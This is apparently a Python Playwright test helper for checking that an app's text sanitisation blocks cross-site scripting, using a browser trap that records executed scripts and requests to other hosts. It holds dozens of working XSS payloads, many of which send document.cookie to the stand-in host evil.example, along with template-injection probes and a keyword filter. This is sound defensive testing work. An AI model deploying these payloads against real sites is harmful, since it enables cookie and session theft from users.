"""Scripts that people might write into texts, and a browser that notices when one of them runs (A5)."""

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, Page, Route

CORPORA = Path(__file__).parents[1] / "system" / "abuse" / "corpora"
EVIL = "http://evil.example"
SIGNS = ("alert", "script", "onerror", "onload", "expression", "xss")
# Whatever a script would do to show itself is counted; so is everything that goes to another host.
TRAP = """window.ran = []; for (const name of ['alert', 'prompt', 'confirm', 'print'])
    window[name] = (...words) => { window.ran.push(name + words); return null; };"""
STEAL = f"fetch('{EVIL}/?'+encodeURIComponent(document.cookie)+'&'+encodeURIComponent(document.documentElement.innerHTML.length));alert(1)"
OWN = (
    f"<script>{STEAL}</script>",
    f"<script src={EVIL}/x.js></script>",
    f'<img src={EVIL}/pixel.png onerror="{STEAL}">',
    f'<img src=x onerror="{STEAL}">',
    f'<svg onload="{STEAL}"></svg>',
    f'<svg><script>{STEAL}</script></svg>',
    f'<svg><animate onbegin="{STEAL}" attributeName=x dur=1s></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{STEAL}">',
    f'<noscript><p title="</noscript><img src=x onerror=&quot;{STEAL}&quot;>">',
    f"<iframe src=\"javascript:{STEAL}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    f"<object data={EVIL}/x.swf></object><embed src={EVIL}/x>",
    f"<link rel=stylesheet href={EVIL}/x.css><style>@import url({EVIL}/y.css);body{{background:url({EVIL}/z)}}</style>",
    f"<base href={EVIL}/><a href=x>x</a>",
    f"<form action={EVIL}/><input name=csrf_token><button>Submit</button></form>",
    f'<details open ontoggle="{STEAL}">x</details>',
    f'<input autofocus onfocus="{STEAL}">',
    f'<video><source onerror="{STEAL}"></video><audio src=x onerror="{STEAL}"></audio>',
    f'<body onpageshow="{STEAL}"><marquee onstart="{STEAL}">x</marquee>',
    f'"><script>{STEAL}</script>',
    "'-alert(1)-'",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "[x](javascript:alert(1)) [x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) <javascript:alert(1)>",
    '[x](http://x" onmouseover="alert(1)) ![x](x"onerror="alert(1))',
    "{{ 7*7 }}{% print(config) %}${7*7}<%= 7*7 %>#{7*7}",
    "\u2028<script>alert(1)</script>\u2029",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\x00ipt>alert(1)</scr\x00ipt>".replace("\x00", "\ufffd"),
    "[x][1] [2] ![x][1]\n\n[1]: javascript:alert(1)\n[2]: <data:text/html,<script>alert(1)</script>> 'x\" onmouseover=alert(1)'",
    "[x](java&#10;script:alert(1)) [x](java%0ascript:alert(1)) [x](&#1;javascript:alert(1)) [x](javascript&colon;alert(1))",
    '<a href="java\tscript:alert(1)" autofocus onfocus=alert(1)>x</a><a href=" &#x6A;avascript:alert(1)">x</a><a href="//evil.example">x</a>',
    f'> <b title="> <img src=x onerror=alert(1)>\n\n- <i\n  onmouseover="{STEAL}">x',
    f"| a | b |\n|---|---|\n| <img src=x onerror={STEAL}> | `<script>alert(1)</script>` |",
    f"```html onload=alert(1)\n</code></pre><script>{STEAL}</script>\n```",
    '<https://a.example/"onmouseover="alert(1)> http://a.example/"onmouseover="alert(1) http://a.example/\'><script>alert(1)</script>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{STEAL}">',
    f'<svg></p><style><a id="</style><img src=1 onerror={STEAL}>"></svg>',
    f'<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=x onerror={STEAL}&gt;</xmp></math>',
    f"<select><template><style><!--</style><img src=x onerror={STEAL}>--></template></select>",
    f'<abbr title="<pre><img src=x onerror={STEAL}>">x</abbr>',
    f'<abbr title="&lt;/abbr&gt;&lt;img src=x onerror={STEAL}&gt;">x</abbr><a title="`-alert(1)-`">x</a>',
    '<isindex action=javascript:alert(1)><frameset onload=alert(1)>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
)  # fmt: skip


def payloads() -> list[str]:
    """Our own, and those of three public collections."""
    strings = json.loads((CORPORA / "naughty-strings" / "strings.json").read_text())
    known = json.loads((CORPORA / "bleach" / "payloads.json").read_text())
    markdown = json.loads((CORPORA / "markdown-it" / "xss.json").read_text())
    return [
        *OWN,
        *known,
        *markdown,
        *(text for text in strings if any(sign in text.lower() for sign in SIGNS)),
    ]


def ours(route: Route) -> bool:
    return urlsplit(route.request.url).hostname in ("localhost", "127.0.0.1")


class Trap:
    """Over a browser context: what ran, and what was sent to another host."""

    def __init__(self, context: BrowserContext) -> None:
        self.ran: list[str] = []
        self.leaked: list[str] = []
        context.add_init_script(TRAP)
        context.route("**/*", self._elsewhere)

    def _elsewhere(self, route: Route) -> None:
        if ours(route):
            route.fallback()
        else:
            self.leaked.append(f"{route.request.url} {route.request.headers.get('referer', '')}")
            route.fulfill(body="alert(2)", content_type="text/javascript")

    def look(self, page: Page) -> None:
        """After everything on the page has had its time to run."""
        page.evaluate("() => new Promise((done) => setTimeout(done, 30))")
        self.ran += [f"{page.url}: {each}" for each in page.evaluate("() => window.ran || []")]


def unsanitised(page: Page, marks: dict[str, str]) -> None:
    """From now on what stands for a text in a page is that text as it was written: as if nothing had escaped
    or sanitised it.
    """

    def answer(route: Route) -> None:
        if route.request.resource_type != "document" or not ours(route):
            route.fallback()
            return
        real = route.fetch(max_redirects=0)
        text = real.text()
        for mark, raw in marks.items():
            text = text.replace(mark, raw)
        route.fulfill(response=real, body=text)

    page.route("**/*", answer)


def chunks(texts: list[str], size: int) -> Iterator[list[str]]:
    for start in range(0, len(texts), size):
        yield texts[start : start + size]
